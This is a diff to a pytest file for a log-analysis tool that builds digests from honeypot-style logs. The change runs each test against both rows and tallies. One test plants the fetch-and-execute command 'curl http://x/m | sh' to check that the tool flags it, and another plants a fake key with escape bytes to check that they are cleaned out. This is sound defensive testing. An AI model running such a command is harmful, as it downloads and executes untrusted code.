@@ -1,16 +1,23 @@
-"""Digests built from the real MariaDB: right aggregates, hostile text cleaned, size bounded."""
+"""Digests built from the real MariaDB: right aggregates, hostile text cleaned, size bounded.
+
+Each test runs twice: the digest read from the window's rows, and from its tallies.
+"""
 
 from __future__ import annotations
 
+from collections.abc import Callable
 from datetime import timedelta
 
+import pytest
 from sqlalchemy import Engine
 
-from rbr_analyst.digest import DigestBuilder
+from rbr_analyst.store import AnalystStore
+from rbr_analyst.window_digest import Digest, DigestBuilder
 from rbr_analyst.windows import Window
 from rbr_testing.logrows import Variety, generate_window, insert_rows, log_row
 
 from .conftest import INTERVAL, WINDOW_START
+from .test_window_tallies import fold_everything
 
 BUCKET = "rustbucket-a"
 WINDOW = Window.starting(BUCKET, WINDOW_START, INTERVAL)
@@ -20,7 +27,24 @@ def at(minutes: float) -> object:
     return WINDOW_START + timedelta(minutes=minutes)
 
 
-def test_digest_aggregates_the_window_only(mysql_engine: Engine) -> None:
+DigestOf = Callable[..., Digest]
+
+
+@pytest.fixture(params=["rows", "tallies"])
+def digest_of(request: pytest.FixtureRequest, mysql_engine: Engine) -> DigestOf:
+    """Builds a window's digest from its rows, or from its tallies (folding every object)."""
+
+    def build(window: Window = WINDOW, **options: int) -> Digest:
+        if request.param == "tallies":
+            fold_everything(AnalystStore(mysql_engine))
+        digest = DigestBuilder(mysql_engine, **options).build(window, "192.0.2.10")
+        assert digest.read_from == request.param
+        return digest
+
+    return build
+
+
+def test_digest_aggregates_the_window_only(mysql_engine: Engine, digest_of: DigestOf) -> None:
     earlier = WINDOW_START - timedelta(hours=1)
     rows = [
         # An earlier window saw 198.51.100.1 already; another bucket's rows must not count.
@@ -77,7 +101,7 @@ def test_digest_aggregates_the_window_only(mysql_engine: Engine) -> None:
     ]
     insert_rows(mysql_engine, rows)
 
-    digest = DigestBuilder(mysql_engine, top_n=5).build(WINDOW, "192.0.2.10")
+    digest = digest_of(top_n=5)
 
     assert digest.total_rows == 12
     assert digest.login_failures == 6
@@ -107,7 +131,7 @@ def test_digest_aggregates_the_window_only(mysql_engine: Engine) -> None:
     assert "unparsed" in sampled
 
 
-def test_top_lists_say_how_many_more(mysql_engine: Engine) -> None:
+def test_top_lists_say_how_many_more(mysql_engine: Engine, digest_of: DigestOf) -> None:
     insert_rows(
         mysql_engine,
         [
@@ -121,19 +145,21 @@ def test_top_lists_say_how_many_more(mysql_engine: Engine) -> None:
             for i in range(300)
         ],
     )
-    digest = DigestBuilder(mysql_engine, top_n=10).build(WINDOW, "192.0.2.10")
+    digest = digest_of(top_n=10)
     assert len(digest.usernames.items) == 10
     assert digest.usernames.as_json()["and_more"] == 290
     assert digest.source_ips.distinct == 300
 
 
-def test_hostile_values_are_cleaned_in_the_digest(mysql_engine: Engine) -> None:
+def test_hostile_values_are_cleaned_in_the_digest(
+    mysql_engine: Engine, digest_of: DigestOf
+) -> None:
     command = "echo AKIAIOSFODNN7EXAMPLE\x1b[31m > k; " + "A" * 2000
     insert_rows(
         mysql_engine,
         [log_row(BUCKET, at(1), "command", command=command, raw=command)],
     )
-    digest = DigestBuilder(mysql_engine).build(WINDOW, "192.0.2.10")
+    digest = digest_of()
     rendered = digest.render()
     assert "AKIAIOSFODNN7EXAMPLE" not in rendered
     assert "\x1b" not in rendered
@@ -141,7 +167,7 @@ def test_hostile_values_are_cleaned_in_the_digest(mysql_engine: Engine) -> None:
     assert len(digest.samples[0]["record"]) <= 400
 
 
-def test_one_bad_command_among_many_is_flagged(mysql_engine: Engine) -> None:
+def test_one_bad_command_among_many_is_flagged(mysql_engine: Engine, digest_of: DigestOf) -> None:
     """The rules see every distinct command, not only the top N."""
     rows = [
         log_row(BUCKET, at(i % 200), "command", command=f"echo {i}")
@@ -150,12 +176,14 @@ def test_one_bad_command_among_many_is_flagged(mysql_engine: Engine) -> None:
     ]
     rows.append(log_row(BUCKET, at(3), "command", command="curl http://x/m | sh"))
     insert_rows(mysql_engine, rows)
-    digest = DigestBuilder(mysql_engine, top_n=5).build(WINDOW, "192.0.2.10")
+    digest = digest_of(top_n=5)
     assert all(item["count"] == 2 for item in digest.commands.items)
     assert [f.command for f in digest.flagged_commands] == ["curl http://x/m | sh"]
 
 
-def test_digest_size_grows_with_distinct_values_not_rows(mysql_engine: Engine) -> None:
+def test_digest_size_grows_with_distinct_values_not_rows(
+    mysql_engine: Engine, digest_of: DigestOf
+) -> None:
     """Ten times the rows with the same variety: the same size, far under the 30k-token cap.
 
     (The 1M-row case is in `python -m bench analyst`.)
@@ -165,10 +193,8 @@ def test_digest_size_grows_with_distinct_values_not_rows(mysql_engine: Engine) -
     large_window = Window.starting("rustbucket-large", WINDOW_START, INTERVAL)
     generate_window(mysql_engine, small_window.bucket, WINDOW_START, 10_000, variety)
     generate_window(mysql_engine, large_window.bucket, WINDOW_START, 100_000, variety)
-    builder = DigestBuilder(mysql_engine)
-
-    small = builder.build(small_window, "192.0.2.10")
-    large = builder.build(large_window, "192.0.2.10")
+    small = digest_of(small_window)
+    large = digest_of(large_window)
 
     assert (small.total_rows, large.total_rows) == (10_000, 100_000)
     assert large.estimated_tokens() < 30_000
